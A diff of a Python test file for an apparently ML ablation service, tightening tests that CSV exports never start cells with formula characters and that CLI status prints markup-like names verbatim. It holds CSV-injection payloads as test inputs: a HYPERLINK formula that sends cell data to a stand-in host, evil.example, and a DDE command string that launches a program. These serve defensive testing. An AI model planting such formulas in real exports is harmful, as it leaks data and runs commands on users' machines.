@@ -236,8 +236,7 @@ def test_csv_cells_are_never_formulas(client: TestClient, database_url: str) -> 
     from orchestrator.ingest import ingest
 
     name = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
-    body = {"name": name, "arms": [{"parent": "A", "name": "@SUM(1+1)"}, {"parent": "A", "name": "-2+3"}],
-            "overrides": TINY}
+    body = {"name": name, "arms": ["A", "B"], "overrides": TINY}  # arm names are letters, digits, . _ -
     grid_id = client.post("/api/grids", json=body, headers=AUTH).json()["id"]
     with session_scope(database_url) as session:
         for run in session.scalars(select(Run).where(Run.grid_id == grid_id)):
@@ -247,8 +246,8 @@ def test_csv_cells_are_never_formulas(client: TestClient, database_url: str) -> 
     for row in rows:
         for key, cell in row.items():
             if key != "extra":  # one JSON value, starting with "{"
-                assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not cell.startswith("-2"), (key, cell)
-    assert rows[0]["grid"] == "'" + name and {r["arm"] for r in rows} == {"'@SUM(1+1)", "'-2+3"}
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (key, cell)
+    assert rows[0]["grid"] == "'" + name and rows[0]["lpips_backbone"] == "'+cmd|' /C calc'!A0"
     assert float(rows[0]["recon_lpips"]) == 0.5  # numbers stay numbers
 
 
@@ -307,14 +306,14 @@ def test_token_file_db_and_storage_are_owner_only(tmp_path: Path) -> None:
 
 
 def test_status_prints_markup_like_names_verbatim(client: TestClient, ablate_cli: Any, database_url: str) -> None:
-    grid_id = client.post("/api/grids", json={"name": "[/]", "arms": [{"parent": "A", "name": "[bold]x"}],
-                                              "overrides": TINY}, headers=AUTH).json()["id"]
+    grid_id = client.post("/api/grids", json={"name": "[/] [bold]x", "arms": ["A"], "overrides": TINY},
+                          headers=AUTH).json()["id"]
     listing = ablate_cli(database_url, "status")
     assert listing.returncode == 0, listing.stderr
-    assert "[/]" in listing.stdout
+    assert "[/] [bold]x" in listing.stdout
     detail = ablate_cli(database_url, "status", str(grid_id))
     assert detail.returncode == 0, detail.stderr
-    assert "[/]" in detail.stdout and "[bold]x" in detail.stdout
+    assert "[/] [bold]x" in detail.stdout
 
 
 def test_node_route_errors_are_clear_not_500(database_url: str, storage: Path, tmp_path: Path,
